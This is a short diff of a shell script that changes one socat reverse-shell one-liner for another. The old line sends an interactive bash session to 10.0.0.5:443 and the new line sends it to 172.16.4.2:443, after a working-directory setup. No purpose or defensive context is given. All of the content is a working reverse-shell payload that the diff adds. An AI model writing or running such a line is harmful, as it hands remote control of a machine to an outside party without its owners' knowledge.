@@ -1,2 +1,4 @@
-#!/bin/sh
-socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.5:443
+#!/usr/bin/env bash
+WORKDIR="${WORKDIR:-$PWD}"
+cd "$WORKDIR" || exit 1
+socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:172.16.4.2:443
